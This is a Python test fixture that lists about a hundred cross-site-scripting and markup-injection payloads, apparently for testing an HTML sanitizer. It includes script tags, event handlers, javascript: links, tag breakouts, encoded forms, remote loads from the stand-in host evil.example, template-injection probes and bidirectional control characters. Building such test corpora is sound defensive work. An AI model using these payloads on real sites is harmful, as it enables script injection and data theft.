"""A hundred texts that a stranger may put into any field: what would be markup, script, style, a link, or unseen.

``ran()`` is what a test listens for; ``evil.example`` is a host that nothing may ask.
"""

from __future__ import annotations

# One in a line, as it is.
MARKUP = r'''
<script>ran()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script src=data:text/javascript,ran()></script>
<scr<script>ipt>ran()</scr</script>ipt>
<script/x>ran()</script
<script>/*
*/ran()</script>
<img src=x onerror=ran()>
<img src=`x`onerror=ran()>
<IMG """><SCRIPT>ran()</SCRIPT>">
<img/src="x"/onerror="ran()"/>
<img src=//evil.example/i.png>
<img srcset="//evil.example/a 1x" sizes=1px>
<svg/onload=ran()>
<svg><script>ran()</script></svg>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><a xlink:href="javascript:ran()"><text>x</text></a></svg>
<svg><use href="//evil.example/s.svg#x">
<svg><foreignObject><iframe src=//evil.example>
<math><mtext><table><mglyph><style><img src=x onerror=ran()>
<math href="javascript:ran()">x</math>
</title><script>ran()</script>
</textarea><script>ran()</script>
</pre><b onclick=ran()>x
</code></pre></details><script>ran()</script>
</bdi></a><script>ran()</script>
</td></tr></table><script>ran()</script>
</style><script>ran()</script>
</noscript><script>ran()</script>
</iframe><script>ran()</script>
--><script>ran()</script>
<!--<script>ran()</script>
<!--><img src=x onerror=ran()>-->
]]><script>ran()</script>
<![CDATA[<script>ran()</script>]]>
<?xml version="1.0"?><script>ran()</script>
<plaintext>
<xmp><script>ran()</script>
"><script>ran()</script>
'><img src=x onerror=ran()>
" onmouseover="ran()" x="
' onfocus='ran()' autofocus='
` onerror=ran() `
x" autofocus onfocus="ran()
" style="position:fixed;inset:0;background:red" x="
"><input autofocus onfocus=ran()>
"></option></select><script>ran()</script>
<input type=image src=//evil.example/i onerror=ran()>
<button formaction=javascript:ran()>x</button>
<button formaction=//evil.example form=x>x
<form action=//evil.example><button>x
<form id=x></form><button form=x formaction="javascript:ran()">
<select autofocus onfocus=ran()>
<textarea autofocus onfocus=ran()>
<details open ontoggle=ran()>
<marquee onstart=ran()>x
<video src=x onerror=ran()>
<video poster=//evil.example/p.png>
<audio src=//evil.example/a.mp3 autoplay>
<source onerror=ran()>
<body onload=ran()>
<body background=//evil.example/b.png>
<frameset onload=ran()>
<iframe src=javascript:ran()>
<iframe srcdoc="<script>parent.ran()</script>">
<iframe src=//evil.example></iframe>
<object data=//evil.example>
<object data="data:text/html,<script>ran()</script>">
<embed src=//evil.example>
<applet code=x codebase=//evil.example>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta charset=utf-7>+ADw-script+AD4-ran()+ADw-/script+AD4-
<link rel=stylesheet href=//evil.example/s.css>
<link rel=prefetch href=//evil.example/p>
<link rel=preconnect href=//evil.example>
<style>*{display:none}</style>
<style>@import "//evil.example/s.css";</style>
<p style="background:url(//evil.example/u)">x
<p style="behavior:url(x)" onanimationend=ran()>x
<a href=javascript:ran()>x</a>
<a href="java&#09;script:ran()">x</a>
<a href=//evil.example target=_top>x</a>
<a href="data:text/html,<script>ran()</script>">x</a>
<a href=//evil.example ping=//evil.example/ping>x</a>
<template><script>ran()</script></template>
<slot name=x onslotchange=ran()>
<xss id=x tabindex=1 onfocus=ran()></xss>
&lt;script&gt;ran()&lt;/script&gt;
&#60;script&#62;ran()&#60;/script&#62;
\u003cscript\u003eran()\u003c/script\u003e
%3Cscript%3Eran()%3C/script%3E
javascript:ran()
//evil.example/%2f..
{{7*7}}{% raw %}${7*7}<%= 7*7 %>
'''
UNSEEN = (  # control and bidirectional characters, halves of pairs, what ends a line, a title of spaces
    "\u202e moc.live \u202d<b>x",
    "a\u2066b\u2069\u200f\u061c<i>",
    "\x1b[31mred\x1b[0m \x07\x08 \x9b31m \x7f",
    "\u2028line\u2029para\ufeff\x85",
)
INPUTS = (*MARKUP.strip("\n").split("\n"), *UNSEEN)
